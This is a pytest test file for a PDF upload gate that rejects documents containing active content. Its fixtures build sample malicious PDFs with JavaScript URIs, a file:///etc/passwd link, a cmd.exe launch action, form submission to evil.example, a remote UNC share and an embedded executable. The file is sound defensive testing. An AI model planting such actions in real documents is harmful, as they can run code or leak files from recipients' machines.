"""PDFs from outside: what can only be read comes in, everything else stays out and is told why."""

from collections.abc import Callable
from io import BytesIO
from typing import Any

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from cabinet import pdf_gate
from cabinet.paper import Letterhead, Paper, Paragraph, printed
from cabinet.pdf_check import LARGEST_PDF, PdfFault, pdf_fault
from cabinet.pdf_gate import PdfRefused, PdfTooLarge, admit_pdf

PLAIN = printed(Paper("Ricetta", "it", Letterhead("Rome Dental"), (Paragraph("Amoxicillina"),)))


def rewritten(change: Callable[[PdfWriter], Any]) -> bytes:
    writer = PdfWriter(clone_from=BytesIO(PLAIN))
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def action(kind: str, **more: Any) -> DictionaryObject:
    members = {NameObject("/S"): NameObject(kind), **{NameObject(f"/{key}"): value for key, value in more.items()}}
    return DictionaryObject(members)


def with_root(key: str, value: Any) -> bytes:
    return rewritten(lambda writer: writer.root_object.__setitem__(NameObject(key), value))


def with_annotation(subtype: str, *, act: DictionaryObject | None = None) -> bytes:
    def change(writer: PdfWriter) -> None:
        annotation = DictionaryObject({NameObject("/Subtype"): NameObject(subtype)})
        if act is not None:
            annotation[NameObject("/A")] = act
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return rewritten(change)


SCRIPT = action("/JavaScript", JS=TextStringObject("app.alert(1)"))


def test_a_plain_paper_comes_in() -> None:
    assert pdf_fault(PLAIN) is None
    assert pdf_fault(rewritten(lambda _: None)) is None
    link = with_annotation("/Link", act=action("/URI", URI=TextStringObject("https://clinic.example")))
    assert pdf_fault(link) is None


@pytest.mark.parametrize(
    "target",
    [
        "javascript:app.alert(1)", " JavaScript:app.alert(1)", "java\nscript:app.alert(1)", "file:///etc/passwd",
        "data:text/html,x", "\u200bjavascript:x", "vbscript:x",
    ],
)  # fmt: skip
def test_a_link_leads_to_a_page_and_nowhere_else(target: str) -> None:
    assert pdf_fault(with_annotation("/Link", act=action("/URI", URI=TextStringObject(target)))) is PdfFault.ACTIVE
    assert pdf_fault(with_root("/URI", DictionaryObject({NameObject("/Base"): TextStringObject(target)}))) is not None


@pytest.mark.parametrize("target", ["mailto:desk@clinic.example", "tel:+3906555", "www.clinic.example", "/a?b=c:d"])
def test_a_harmless_link_stays(target: str) -> None:
    assert pdf_fault(with_annotation("/Link", act=action("/URI", URI=TextStringObject(target)))) is None


@pytest.mark.parametrize(
    "content",
    [
        with_root("/OpenAction", SCRIPT),
        with_root("/OpenAction", action("/Launch", F=TextStringObject("cmd.exe"))),
        with_root("/AA", DictionaryObject({NameObject("/WC"): SCRIPT})),
        with_annotation("/Link", act=action("/SubmitForm", F=TextStringObject("https://evil.example"))),
        with_annotation("/Link", act=action("/GoToR", F=TextStringObject("\\\\evil\\share"))),
        with_annotation("/RichMedia"),
        rewritten(lambda writer: writer.add_attachment("evil.exe", b"MZ")),
        rewritten(lambda writer: writer._add_object(SCRIPT)),  # that no page leads to
        with_root("/AcroForm", DictionaryObject({NameObject("/XFA"): ArrayObject([])})),
    ],
)
def test_whatever_acts_stays_out(content: bytes) -> None:
    assert pdf_fault(content) is PdfFault.ACTIVE


def test_what_was_active_once_and_overwritten_later_stays_out_too() -> None:
    first = with_root("/OpenAction", SCRIPT)
    writer = PdfWriter(BytesIO(first), incremental=True)
    del writer.root_object["/OpenAction"]
    out = BytesIO()
    writer.write(out)
    assert pdf_fault(out.getvalue()) is PdfFault.ACTIVE


def test_what_cannot_be_read_stays_out() -> None:
    assert pdf_fault(b"GIF89a") is PdfFault.NOT_PDF
    assert pdf_fault(b"%PDF-1.7\n") is PdfFault.BROKEN
    assert pdf_fault(PLAIN[: len(PLAIN) // 2]) is PdfFault.BROKEN
    assert pdf_fault(rewritten(lambda writer: writer.encrypt("x"))) is PdfFault.ENCRYPTED


async def test_the_gate_looks_in_a_process_of_its_own() -> None:
    await admit_pdf(PLAIN)
    with pytest.raises(PdfRefused) as refused:
        await admit_pdf(with_root("/OpenAction", SCRIPT))
    assert [(fault.pointer, fault.code) for fault in refused.value.faults] == [("/file", "active-content")]
    with pytest.raises(PdfTooLarge):
        await admit_pdf(PLAIN + b"\0" * LARGEST_PDF)


async def test_a_file_that_takes_too_long_is_not_waited_for(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdf_gate, "WALL_SECONDS", 0.001)
    with pytest.raises(PdfRefused) as refused:
        await admit_pdf(PLAIN)
    assert refused.value.faults[0].code == "too-costly"
